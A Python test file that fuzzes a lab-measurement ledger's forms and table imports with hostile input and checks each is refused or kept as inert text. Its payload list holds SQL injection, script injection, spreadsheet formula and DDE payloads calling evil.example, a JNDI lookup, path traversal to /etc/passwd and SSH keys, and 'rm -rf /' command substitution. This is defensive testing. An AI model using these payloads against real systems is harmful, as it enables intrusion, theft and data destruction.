"""Submissions that nobody means well: refused in words, or kept as text as they are."""

import math
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from cathode.errors import CathodeError
from cathode.lab.conditions import CONDITIONS
from cathode.lab.form import MEASURED, ResultForm
from cathode.lab.problems import read_form
from cathode.ledger import Ledger, measurements
from cathode.ledger.tables import measurements as rows
from cathode.loop import next_turn, run_turn
from cathode.loop.amending import AmendForm, amend
from cathode.loop.observations import observe
from cathode.loop.reviewing import ReviewForm, review
from cathode.loop.submitting import submit
from cathode.loop.tables import TableForm, take_table
from cathode.spec import parse_spec
from tests.helpers import fresh_database, layered
from tests.loops import build

EXAMPLES = settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)

NASTY = [
    "'; DROP TABLE measurements; --",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\system32",
    "file:///etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "~/.ssh/id_rsa",
    "{{ 7*7 }}",
    "${jndi:ldap://evil.example/a}",
    "$(rm -rf /)",
    "`rm -rf /`",
    "!!python/object/apply:os.system ['true']",
    "\u0441-aaaaaaaaaa",  # a Cyrillic letter that looks like c
    "c\u200b-aaaa",
    "\u202eevil",
    "NaN",
    "inf",
    "-inf",
    "1e309",
    "0x10",
    "1_000",
    "１８０",
    "١٨٠",
    "180,5",
    "180 mAh/g",
    "\x00",
    "\ud800",
    "\ufffe",
    "a" * 10_000_000,
    "\n" * 5000,
    "|" * 500,
    "null",
    "None",
    "",
    " ",
    "𝟙𝟠𝟘",
]

ANYTHING = st.one_of(
    st.sampled_from(NASTY),
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=50),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=2),
)


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def loop(request, tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    url = f"sqlite:///{folder}/ledger.db"
    if request.param == "postgresql":
        url = fresh_database(request.getfixturevalue("postgres"))
    ledger = Ledger.open(url, create=True)
    content = layered(
        evaluator={"kind": "lab"},
        objectives=[{"property": "discharge_capacity"}],
        constraints=[],
        initial=4,
    )
    made = build(ledger, parse_spec(content, "test"), folder)
    run_turn(made, next_turn(made))
    (folder / "inbox").mkdir()
    (folder / "secret.csv").write_text("candidate,discharge_capacity (mAh/g)\nroot,1\n")
    (folder / "inbox" / "link.csv").symlink_to(folder / "secret.csv")
    yield made, folder
    ledger.close()


def number_of_rows(ledger: Ledger) -> int:
    with ledger.read() as connection:
        return int(connection.execute(select(func.count()).select_from(rows)).scalar_one())


def candidate(made: Any) -> str:
    return observe(made.ledger, "small").proposals[0].candidate.id


def answer(work: Callable[[], Any]) -> Any:
    """What came of it, or the words in which it was refused."""
    try:
        return work()
    except CathodeError as error:
        words = str(error)
    assert words
    assert "Traceback" not in words
    assert len(words) < 20_000, "whatever was written is not all repeated"
    return words


FIELDS = [name for name in ResultForm.model_fields if name not in ("campaign", "candidate")]


@EXAMPLES
@given(
    st.dictionaries(st.sampled_from(FIELDS), ANYTHING, min_size=1, max_size=5),
    st.sampled_from(["right", "wrong"]),
    ANYTHING,
)
def test_forms(loop, wild, which, wrong):
    made, _ = loop
    name = candidate(made) if which == "right" else wrong
    usual = {"campaign": "small", "candidate": name, "operator": "Ada", "discharge_capacity": 180}
    before = number_of_rows(made.ledger)
    receipt = answer(lambda: submit(made.ledger, read_form(ResultForm, usual | wild)))
    if isinstance(receipt, str):
        assert number_of_rows(made.ledger) == before
        return
    assert receipt.candidate == candidate(made)
    with made.ledger.read() as connection:
        kept = measurements.every(connection, "small")
    for recorded in kept:
        measured = recorded.measurement
        if measured.property in MEASURED and measured.value is not None:
            least, greatest = MEASURED[measured.property]
            assert math.isfinite(measured.value)
            assert least <= measured.value <= greatest
        assert set(measured.conditions) <= set(CONDITIONS)
    new = [r for r in kept[before:] if r.measurement.property == "discharge_capacity"]
    for key, value in wild.items():
        if CONDITIONS.get(key) and CONDITIONS[key].is_text and str(value or "").strip():
            assert all(r.measurement.conditions[key] == str(value).strip() for r in new if new)


@EXAMPLES
@given(
    st.dictionaries(
        st.sampled_from(["table", "again", "evaluator", "dry_run", "operator"]), ANYTHING
    ),
    st.one_of(st.sampled_from(NASTY), st.text(max_size=200)),
)
def test_tables(loop, wild, text):
    made, folder = loop
    usual = {"campaign": "small", "table": text, "operator": "Ada", "dry_run": False}
    before = number_of_rows(made.ledger)
    with pytest.raises(CathodeError) as told:
        take_table(made.ledger, read_form(TableForm, usual | wild), folder / "inbox")
    assert "Traceback" not in str(told.value)
    assert len(str(told.value)) < 20_000
    assert number_of_rows(made.ledger) == before


@pytest.mark.parametrize(
    "name",
    [
        "../secret.csv",
        "link.csv",
        "/etc/passwd.csv",
        "a/../../secret.csv",
        "x" * 300 + ".csv",
        "\u2024\u2024/secret.csv",
        "secret.csv\u0000.csv",
        "~/secret.csv",
    ],
)
def test_nothing_outside_the_inbox_is_read(loop, name):
    made, folder = loop
    form = TableForm(campaign="small", table=name, operator="Ada")
    with pytest.raises(CathodeError) as told:
        take_table(made.ledger, form, folder / "inbox")
    assert "root" not in str(told.value)


def test_cells_that_look_like_formulas_are_refused_as_numbers_or_kept_as_notes(loop):
    made, folder = loop
    name = candidate(made)
    formula = '=HYPERLINK("http://evil.example")'
    cells = f"candidate,discharge_capacity (mAh/g),note\n{name},=1+1,x\n"
    form = TableForm(campaign="small", table=cells, operator="Ada", dry_run=False, again="correct")
    with pytest.raises(CathodeError, match="'=1\\+1' is no number"):
        take_table(made.ledger, form, folder / "inbox")
    quoted = formula.replace('"', '""')
    cells = f'candidate,discharge_capacity (mAh/g),note\n{name},181.25,"{quoted}"\n'
    form = TableForm(campaign="small", table=cells, operator="Ada", dry_run=False, again="correct")
    take_table(made.ledger, form, folder / "inbox")
    with made.ledger.read() as connection:
        newest = measurements.every(connection, "small")[-1]
    assert newest.measurement.conditions["note"] == formula


@EXAMPLES
@given(st.dictionaries(st.sampled_from([*AmendForm.model_fields]), ANYTHING, max_size=4))
def test_amendments(loop, wild):
    made, _ = loop
    usual = {"campaign": "small", "candidate": candidate(made), "property": "discharge_capacity"}
    usual |= {"value": 170.5, "reason": "tested", "operator": "Eve"}
    found = answer(lambda: amend(made.ledger, read_form(AmendForm, usual | wild)))
    assert isinstance(found, str) or found.campaign == "small"


@EXAMPLES
@given(st.dictionaries(st.sampled_from([*ReviewForm.model_fields]), ANYTHING, max_size=4))
def test_reviews(loop, wild):
    made, _ = loop
    usual = {"campaign": "small", "candidate": candidate(made), "operator": "Eve"}
    found = answer(lambda: review(made.ledger, read_form(ReviewForm, usual | wild)))
    assert isinstance(found, str) or found.campaign == "small"
